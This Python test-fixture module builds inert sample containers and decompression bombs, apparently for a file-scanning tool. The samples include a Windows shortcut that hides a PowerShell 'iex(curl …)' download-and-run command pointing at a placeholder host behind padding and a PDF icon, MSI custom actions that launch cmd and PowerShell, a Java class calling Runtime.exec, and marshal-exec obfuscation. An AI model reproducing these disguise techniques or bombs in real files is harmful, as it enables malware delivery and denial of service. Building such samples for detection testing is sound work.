"""Builders of small, inert containers: disk images, cabinets, installers, shortcuts, packages."""

from __future__ import annotations

import bz2
import io
import json
import lzma
import marshal
import struct
import zipfile
import zlib
from functools import cache

import lzx

from tests import documents

FILES = {"readme.txt": b"Hello, hello, hello.\n" * 20, "bin/tool.bin": bytes(range(256)) * 4}
ISO_SECTOR = 2048


def zstd_frame(content: bytes) -> bytes:
    """A frame of one raw block (RFC 8878)."""
    head = b"\x28\xb5\x2f\xfd" + bytes([0b1010_0000]) + struct.pack("<I", len(content))
    return head + struct.pack("<I", len(content) << 3 | 1)[:3] + content


def cpio(members: dict[str, bytes]) -> bytes:
    data = b""
    for name, content in [*members.items(), ("TRAILER!!!", b"")]:
        encoded = name.encode() + b"\0"
        fields = [1, 0o100644, 0, 0, 1, 1_600_000_000, len(content), 0, 0, 0, 0, len(encoded), 0]
        data += b"070701" + b"".join(b"%08x" % field for field in fields) + encoded
        data += b"\0" * (-len(data) % 4) + content
        data += b"\0" * (-len(data) % 4)
    return data


def rpm(members: dict[str, bytes]) -> bytes:
    def header(tags: dict[int, bytes]) -> bytes:
        store, index = b"", b""
        for tag, value in tags.items():
            index += struct.pack(">IIII", tag, 6, len(store), 1)
            store += value + b"\0"
        return b"\x8e\xad\xe8\x01" + b"\0" * 4 + struct.pack(">II", len(tags), len(store)) + index + store

    lead = (b"\xed\xab\xee\xdb\3\0" + b"\0" * 4 + b"example").ljust(96, b"\0")
    signature = header({1000: b"x"})
    main = header({1000: b"example", 1001: b"1.2", 1002: b"3", 1022: b"noarch", 1024: b"echo installed"})
    return lead + signature + b"\0" * (-len(signature) % 8) + main + lzma.compress(cpio(members))


def cabinet_files(members: dict[str, bytes]) -> tuple[bytes, bytes]:
    """The members one behind the other, and the rows that say where they are."""
    stream, files = b"", b""
    for name, content in members.items():
        files += struct.pack("<IIHHHH", len(content), len(stream), 0, 0x5000, 0x6000, 0x20) + name.encode() + b"\0"
        stream += content
    return stream, files


def cabinet(members: dict[str, bytes], *, packed: bool = True) -> bytes:
    stream, files = cabinet_files(members)
    blocks, history = [], b""
    for start in range(0, len(stream), 32768):
        part = stream[start : start + 32768]
        deflater = (
            zlib.compressobj(9, zlib.DEFLATED, -15, zdict=history)
            if history
            else zlib.compressobj(9, zlib.DEFLATED, -15)
        )
        body = b"CK" + deflater.compress(part) + deflater.flush() if packed else part
        blocks.append(struct.pack("<IHH", 0, len(body), len(part)) + body)
        history = part
    return cabinet_of(files, len(members), int(packed), blocks)


def cabinet_of(files: bytes, count: int, method: int, blocks: list[bytes]) -> bytes:
    data_at = 36 + 8 + len(files)
    folder = struct.pack("<IHH", data_at, len(blocks), method)
    size = data_at + sum(map(len, blocks))
    head = b"MSCF" + struct.pack("<IIIIIBBHHHHH", 0, size, 0, 44, 0, 3, 1, 1, count, 0, 0, 0)
    return head + folder + files + b"".join(blocks)


def lzx_cabinet(members: dict[str, bytes], method: int = lzx.TYPE, **options: bool) -> bytes:
    content, files = cabinet_files(members)
    chunks = lzx.packed(content, **options)
    sizes = [min(lzx.CHUNK, len(content) - at) for at in range(0, len(content), lzx.CHUNK)]
    blocks = [struct.pack("<IHH", 0, len(chunk), size) + chunk for chunk, size in zip(chunks, sizes, strict=True)]
    return cabinet_of(files, len(members), method, blocks)


def both(number: int, size: str) -> bytes:
    return struct.pack("<" + size, number) + struct.pack(">" + size, number)


def iso(members: dict[str, bytes], *, hidden: tuple[str, ...] = (), loop: bool = False) -> bytes:
    """One directory; the names as Rock Ridge has them. ``loop``: a folder that is its own parent's listing."""

    def record(name: bytes, sector: int, size: int, flags: int, long_name: str = "") -> bytes:
        body = both(sector, "I") + both(size, "I") + bytes([120, 9, 13, 12, 26, 40, 0, flags, 0, 0]) + both(1, "H")
        body += bytes([len(name)]) + name
        body += b"\0" * (len(body) % 2)
        if long_name:
            encoded = long_name.encode()
            body += b"NM" + bytes([5 + len(encoded), 1, 0]) + encoded
        body += b"\0" * (len(body) % 2)
        return bytes([2 + len(body), 0]) + body

    first, listing, contents = 19, b"", b""
    for index, (name, content) in enumerate(members.items()):
        sector = first + len(contents) // ISO_SECTOR
        listing += record(b"FILE%d.;1" % index, sector, len(content), int(name in hidden), name)
        contents += content + b"\0" * (-len(content) % ISO_SECTOR)
    root = record(b"\0", 18, ISO_SECTOR, 2)
    listing = root + record(b"\1", 18, ISO_SECTOR, 2) + listing
    if loop:
        listing += record(b"AGAIN", 18, ISO_SECTOR, 2)
    volume = (
        b"\1CD001\1\0" + b" " * 32 + b"EXAMPLE".ljust(32) + b"\0" * 8 + both(first + len(contents) // ISO_SECTOR, "I")
    )
    volume = (volume.ljust(128, b"\0") + both(ISO_SECTOR, "H")).ljust(156, b"\0") + root
    end = b"\xffCD001\1"
    sectors = [volume.ljust(ISO_SECTOR, b"\0"), end.ljust(ISO_SECTOR, b"\0"), listing.ljust(ISO_SECTOR, b"\0")]
    return b"\0" * (16 * ISO_SECTOR) + b"".join(sectors) + contents


def seven_zip(members: dict[str, bytes], *, coder: bytes = b"\x23\x03\x01\x01", packed_header: bool = False) -> bytes:
    """A solid archive of one folder, packed with LZMA (or said to be packed with another ``coder``)."""
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16}]
    properties = b"\x05" + b"\x5d" + struct.pack("<I", 1 << 16)

    def number(value: int) -> bytes:
        return bytes([value]) if value < 0x80 else bytes([0xC0]) + struct.pack("<H", value)

    def folder(size: int) -> bytes:
        return b"\x07\x0b\1\0\1" + coder + properties + b"\x0c" + number(size) + b"\0"

    stream = b"".join(members.values())
    packed = lzma.compress(stream, lzma.FORMAT_RAW, filters=filters)
    sizes = [len(content) for content in members.values()]
    names = b"".join(name.encode("utf-16le") + b"\0\0" for name in members)
    header = b"\1\4\6\0\1\x09" + number(len(packed)) + b"\0" + folder(len(stream))
    header += b"\x08\x0d" + number(len(members)) + b"\x09" + b"".join(map(number, sizes[:-1])) + b"\0\0"
    header += b"\5" + number(len(members)) + b"\x11" + number(len(names) + 1) + b"\0" + names + b"\0\0"
    body = packed
    if packed_header:
        again = lzma.compress(header, lzma.FORMAT_RAW, filters=filters)
        header = b"\x17\6" + number(len(body)) + b"\1\x09" + number(len(again)) + b"\0" + folder(len(header)) + b"\0"
        body += again
    start = struct.pack("<QQI", len(body), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + body + header


def rar4(members: dict[str, bytes], *, encrypted: bool = False) -> bytes:
    """Stored members."""
    data = b"Rar!\x1a\x07\0" + struct.pack("<HBHH", 0, 0x73, 0, 13) + b"\0" * 6
    for name, content in members.items():
        encoded = name.encode()
        head = struct.pack("<BHH", 0x74, 0x8000 | (4 if encrypted else 0), 32 + len(encoded))
        head += struct.pack("<IIBIIBBHI", len(content), len(content), 2, 0, 0x512D6000, 20, 0x30, len(encoded), 0x20)
        data += b"\0\0" + head + encoded + content
    return data + struct.pack("<HBHH", 0, 0x7B, 0x4000, 7)


def rar5(members: dict[str, bytes]) -> bytes:
    """Stored members."""
    data = b"Rar!\x1a\x07\1\0" + b"\0" * 4 + b"\x03\1\0\0"
    for name, content in members.items():
        encoded = name.encode()
        assert len(content) < 128
        body = bytes([2, 2, len(content), 0, len(content), 0, 0, 1, len(encoded)]) + encoded
        data += b"\0" * 4 + bytes([len(body)]) + body + content
    return data + b"\0" * 4 + b"\3\5\0\0"


def asar(members: dict[str, bytes]) -> bytes:
    files, offset = {}, 0
    for name, content in members.items():
        files[name] = {"size": len(content), "offset": str(offset)}
        offset += len(content)
    header = json.dumps({"files": files}, separators=(",", ":")).encode()
    padded = header + b"\0" * (-len(header) % 4)
    head = struct.pack("<IIII", 4, len(padded) + 8, len(padded) + 4, len(header))
    return head + padded + b"".join(members.values())


# -- shortcuts


def shortcut(
    target: str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    arguments: str = "",
    *,
    icon: str = "",
    show: int = 1,
    network: str = "",
    machine: str = "desktop-example",
    appended: bytes = b"",
) -> bytes:
    def text(value: str) -> bytes:
        return struct.pack("<H", len(value)) + value.encode("utf-16le")

    flags = 0x82 | (0x20 if arguments else 0) | (0x40 if icon else 0)
    times = struct.pack("<QQQ", *[132_500_000_000_000_000] * 3)
    head = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<II", flags, 0x20)
    head += times + struct.pack("<IiIHHII", 4096, 3, show, 0, 0, 0, 0)
    if network:
        share, _, suffix = network.rpartition("\\")
        block = struct.pack("<IIIII", 20 + len(share) + 1, 2, 20, 0, 0x20000) + share.encode() + b"\0"
        info = struct.pack("<IIIIII", 0x1C, 2, 0, 0, 0x1C, 0x1C + len(block)) + block + suffix.encode() + b"\0"
    else:
        volume = struct.pack("<IIII", 17 + len("SYSTEM"), 3, 0xCAFE1234, 16) + b"SYSTEM\0"
        base = 0x1C + len(volume)
        local = target.encode() + b"\0"
        info = struct.pack("<IIIIII", 0x1C, 1, 0x1C, base, 0, base + len(local) - 1) + volume + local
    body = struct.pack("<I", 4 + len(info)) + info
    body += (text(arguments) if arguments else b"") + (text(icon) if icon else b"")
    droid = bytes(16) + bytes.fromhex("00112233445566118899") + bytes.fromhex("0a1b2c3d4e5f")
    tracker = struct.pack("<IIII", 0x60, 0xA0000003, 0x58, 0) + machine.encode().ljust(16, b"\0") + droid * 2
    return head + body + tracker + b"\0" * 4 + appended


MALICIOUS_SHORTCUT = shortcut(
    arguments="-nop -w hidden" + " " * 300 + "-c iex(curl http://example.invalid/a)",
    icon=r"C:\Program Files\Reader\AcroRd32.exe",
    show=7,
    appended=b"%PDF-1.7\ninert\n%%EOF\n",
)


# -- Windows Installer

_LETTERS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz._"


def msi_name(name: str) -> str:
    encoded, name = ("\u4840", name[1:]) if name.startswith("!") else ("", name)
    for at in range(0, len(name), 2):
        codes = [_LETTERS.index(letter) for letter in name[at : at + 2]]
        encoded += chr(0x3800 + codes[0] + (codes[1] << 6)) if len(codes) == 2 else chr(0x4800 + codes[0])
    return encoded


def msi(tables: dict[str, tuple[dict[str, int], list[tuple[str | int, ...]]]], streams: dict[str, bytes]) -> bytes:
    """Tables: their columns with types, and rows."""
    strings: dict[str, int] = {}

    def value(content: str | int, kind: int) -> bytes:
        if isinstance(content, str):
            return struct.pack("<H", strings.setdefault(content, len(strings) + 1) if content else 0)
        return struct.pack("<H", content + 0x8000) if kind & 0xFF <= 2 else struct.pack("<I", content + 0x80000000)

    def encode(kinds: list[int], rows: list[tuple[str | int, ...]]) -> bytes:
        return b"".join(value(row[at], kind) for at, kind in enumerate(kinds) for row in rows)

    listing = [
        (table, number, column, kind)
        for table, (columns, _) in tables.items()
        for number, (column, kind) in enumerate(columns.items(), 1)
    ]
    parts = {
        "!_Columns": encode([0x0D40, 0x0502, 0x0D40, 0x0502], listing),
        "!_Tables": encode([0x0D40], [(table,) for table in tables]),
    }
    parts |= {f"!{table}": encode(list(columns.values()), rows) for table, (columns, rows) in tables.items()}
    pool = struct.pack("<HH", 1252, 0) + b"".join(struct.pack("<HH", len(text.encode()), 1) for text in strings)
    parts |= {"!_StringPool": pool, "!_StringData": "".join(strings).encode(), **streams}
    named = {msi_name(name): content for name, content in parts.items()}
    data = bytearray(documents.compound(named, bytes.fromhex("84100c0000000000c000000000000046")))
    # Sizes as they are, and no stream for small ones.
    struct.pack_into("<I", data, 56, 0)
    directory = 512 * (1 + struct.unpack_from("<I", data, 44)[0])
    for index, content in enumerate(named.values(), 1):
        struct.pack_into("<I", data, directory + 128 * index + 120, len(content))
    return bytes(data)


TEXT, KEY, SHORT, LONG, STREAM = 0x0D48, 0x2D48, 0x0502, 0x0104, 0x0900


def installer() -> bytes:
    return msi(
        {
            "Property": ({"Property": KEY, "Value": TEXT}, [("ProductName", "Example"), ("Manufacturer", "Nobody")]),
            "CustomAction": (
                {"Action": KEY, "Type": SHORT, "Source": TEXT, "Target": TEXT},
                [
                    ("RunScript", 38, "", 'CreateObject("WScript.Shell").Run "calc"'),
                    ("RunShell", 50, "COMSPEC", "cmd.exe /c powershell -nop"),
                    ("Helper", 1, "Helper.dll", "Entry"),
                ],
            ),
            "Binary": ({"Name": KEY, "Data": STREAM}, [("Helper.dll", 1)]),
            "File": (
                {"File": KEY, "Component_": TEXT, "FileName": TEXT, "FileSize": LONG},
                [("f1", "c1", "SETUP~1.EXE|setup program.exe", 77)],
            ),
        },
        {"Binary.Helper.dll": b"MZ inert", "data.cab": cabinet(FILES)},
    )


# -- Android and Java


def axml(root: tuple[str, dict[str, str | int | bool], list]) -> bytes:
    """Binary XML with UTF-16 texts; attributes by name."""
    strings: list[str] = []

    def index(text: str) -> int:
        if text not in strings:
            strings.append(text)
        return strings.index(text)

    def element(name: str, attributes: dict[str, str | int | bool], children: list) -> bytes:
        body = b""
        for key, value in attributes.items():
            if isinstance(value, str):
                kind, raw = 3, index(value)
            else:
                kind, raw = (0x12, 0xFFFFFFFF if value else 0) if isinstance(value, bool) else (0x10, value)
            body += struct.pack("<IIIHBBI", 0xFFFFFFFF, index(key), 0xFFFFFFFF, 8, 0, kind, raw)
        head = struct.pack("<IIIIHHHHHH", 1, 0xFFFFFFFF, 0xFFFFFFFF, index(name), 20, 20, len(attributes), 0, 0, 0)
        start = struct.pack("<HHI", 0x102, 16, 8 + len(head) + len(body)) + head + body
        end = struct.pack("<HHIIIII", 0x103, 16, 24, 1, 0xFFFFFFFF, 0xFFFFFFFF, index(name))
        return start + b"".join(element(*child) for child in children) + end

    elements = element(*root)
    encoded = [struct.pack("<H", len(text)) + text.encode("utf-16le") + b"\0\0" for text in strings]
    offsets = b"".join(struct.pack("<I", sum(map(len, encoded[:at]))) for at in range(len(encoded)))
    texts = b"".join(encoded)
    texts += b"\0" * (-len(texts) % 4)
    start = 28 + len(offsets)
    pool = struct.pack("<HHIIIIII", 1, 28, start + len(texts), len(strings), 0, 0, start, 0) + offsets + texts
    return struct.pack("<HHI", 3, 8, 8 + len(pool) + len(elements)) + pool + elements


def manifest() -> bytes:
    def permission(name: str) -> tuple[str, dict[str, str | int | bool], list]:
        return "uses-permission", {"name": f"android.permission.{name}"}, []

    main = ("action", {"name": "android.intent.action.MAIN"}, [])
    bound = {"name": ".Watch", "exported": True, "permission": "android.permission.BIND_ACCESSIBILITY_SERVICE"}
    application = [
        ("activity", {"name": ".Main", "exported": True}, [("intent-filter", {}, [main])]),
        ("service", bound, []),
    ]
    children = [
        ("uses-sdk", {"minSdkVersion": 21, "targetSdkVersion": 34}, []),
        *map(permission, ("SEND_SMS", "READ_SMS", "SYSTEM_ALERT_WINDOW", "INTERNET")),
        ("application", {"debuggable": True}, application),
    ]
    return axml(("manifest", {"package": "invalid.example.app", "versionCode": 7, "versionName": "1.2"}, children))


def dex() -> bytes:
    """Two classes, one of the platform whose method is named."""
    texts = ["<init>", "Ldalvik/system/DexClassLoader;", "Linvalid/example/Main;", "V"]
    at = 112 + 4 * len(texts) + 4 * 2 + 8 * 1 + 32 * 1
    offsets, data = b"", b""
    for text in texts:
        offsets += struct.pack("<I", at + len(data))
        data += bytes([len(text)]) + text.encode() + b"\0"
    types, methods = struct.pack("<II", 1, 2), struct.pack("<HHI", 0, 0, 0)
    classes = struct.pack("<IIIIIIII", 1, 1, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0, 0, 0)
    strings_at, types_at = 112, 112 + 4 * len(texts)
    methods_at, classes_at = types_at + 8, types_at + 16
    tables = offsets + types + methods + classes
    body = struct.pack("<III", 112, 0x12345678, 0) + b"\0" * 8
    body += struct.pack("<IIII", len(texts), strings_at, 2, types_at) + b"\0" * 16
    body += struct.pack("<IIII", 1, methods_at, 1, classes_at) + struct.pack("<II", len(data), at) + tables + data
    rest = b"\0" * 20 + struct.pack("<I", 36 + len(body) - 4 + 4) + body
    return b"dex\n035\0" + struct.pack("<I", zlib.adler32(rest)) + rest


def signing_block(certificate: bytes) -> bytes:
    pair = struct.pack("<QI", 4 + len(certificate), 0x7109871A) + certificate
    size = struct.pack("<Q", len(pair) + 24)
    return size + pair + size + b"APK Sig Block 42"


def apk() -> bytes:
    """With a block of version 2 before the directory, in which a name of a certificate stands."""
    data = documents.archive({"AndroidManifest.xml": manifest(), "classes.dex": dex(), "resources.arsc": b"\2\0"})
    end = data.rfind(b"PK\5\6")
    directory = struct.unpack_from("<I", data, end + 16)[0]
    block = signing_block(b"\x06\x03\x55\x04\x03\x0c\x07Example")
    moved = bytearray(data[:directory] + block + data[directory:])
    struct.pack_into("<I", moved, end + len(block) + 16, directory + len(block))
    return bytes(moved)


def java_class() -> bytes:
    pool: list[bytes] = []

    def add(constant: bytes) -> int:
        pool.append(constant)
        return len(pool)

    def text(value: str) -> int:
        return add(b"\1" + struct.pack(">H", len(value)) + value.encode())

    def class_of(name: str) -> int:
        return add(b"\7" + struct.pack(">H", text(name)))

    own, parent = class_of("invalid/example/Main"), class_of("java/lang/Object")
    runtime = class_of("java/lang/Runtime")
    signature = add(b"\x0c" + struct.pack(">HH", text("exec"), text("(Ljava/lang/String;)V")))
    add(b"\x0a" + struct.pack(">HH", runtime, signature))
    add(b"\x08" + struct.pack(">H", text("calc.exe")))
    head = b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 61, len(pool) + 1)
    return head + b"".join(pool) + struct.pack(">HHHHHHH", 0x21, own, parent, 0, 0, 0, 0)


def jar() -> bytes:
    lines = "Manifest-Version: 1.0\r\nMain-Class: invalid.example.Ma\r\n in\r\n\r\nName: x\r\n"
    return documents.archive({"META-INF/MANIFEST.MF": lines.encode(), "invalid/example/Main.class": java_class()})


# -- Python

SOURCE = """
import base64, zlib, marshal
from os import path as p
def hidden(secret):
    import socket
    return socket.gethostname() + "a text of note"
exec(marshal.loads(zlib.decompress(base64.b64decode("eJw="))))
"""


def bytecode(source: str = SOURCE, *, header: bool = True) -> bytes:
    """By the Python that runs this, which is to be 3.11 where golden samples are written."""
    from importlib.util import MAGIC_NUMBER  # noqa: PLC0415 - only here

    code = marshal.dumps(compile(source, "example.py", "exec"))
    return (MAGIC_NUMBER + struct.pack("<III", 0, 1_600_000_000, len(source)) if header else b"") + code


def pyz(modules: dict[str, str]) -> bytes:
    from importlib.util import MAGIC_NUMBER  # noqa: PLC0415 - only here

    data, table = b"", []
    for name, source in modules.items():
        packed = zlib.compress(bytecode(source, header=False))
        table.append((name, (0, 17 + len(data), len(packed))))
        data += packed
    return b"PYZ\0" + MAGIC_NUMBER + struct.pack(">I", 17 + len(data)) + b"\0" * 5 + data + marshal.dumps(table)


def pyinstaller(stub: bytes, *, version: int = 311) -> bytes:
    entries = [
        (b"s", "pyiboot01_bootstrap", bytecode("import sys", header=False)),
        (b"s", "main", bytecode(header=False)),
        (b"z", "PYZ.pyz", pyz({"helper": "import ctypes"})),
        (b"b", "base_library.zip", documents.archive({"inner.txt": b"x" * 50})),
    ]
    data, table = b"", b""
    for kind, name, content in entries:
        packed = zlib.compress(content) if kind != b"z" else content
        encoded = name.encode() + b"\0"
        encoded += b"\0" * (-(18 + len(encoded)) % 16)
        size = 18 + len(encoded)
        table += struct.pack(">IIIIBc", size, len(data), len(packed), len(content), int(kind != b"z"), kind) + encoded
        data += packed
    length = len(data) + len(table) + 88
    cookie = b"MEI\x0c\x0b\x0a\x0b\x0e" + struct.pack(">IIII", length, len(data), len(table), version)
    return stub + data + table + cookie + b"python311.dll".ljust(64, b"\0")


# -- bombs and loops


def nested(content: bytes, levels: int) -> bytes:
    for level in range(levels):
        content = documents.archive({f"level{level}.zip": content})
    return content


def nested_bomb() -> bytes:
    """Sixteen archives in each of three levels, different ones, and 32 MiB of zeros in the last: 128 GiB."""
    zeros = documents.archive({"zeros": b"\0" * (32 << 20)})
    content = zeros
    for level in range(3):
        content = documents.archive({f"{level}-{index}.zip": content + bytes([index]) for index in range(16)})
    return content


def overlapping_bomb() -> bytes:
    """A thousand entries that share one kernel of 20 MiB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("a", b"\0" * (20 << 20))
    data = buffer.getvalue()
    end = data.rfind(b"PK\5\6")
    directory = struct.unpack_from("<I", data, end + 16)[0]
    member = data[directory:end]
    many = b"".join(member[:-1] + bytes([97 + index % 26]) for index in range(1_000))
    return data[:directory] + many + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1_000, 1_000, len(many), directory, 0)


@cache
def packed_bombs() -> dict[str, bytes]:
    """More than is unpacked of one file."""
    zeros = b"\0" * (96 << 20)
    return {"bzip2": bz2.compress(zeros), "xz": lzma.compress(zeros), "gzip": documents.gzipped(zeros)}
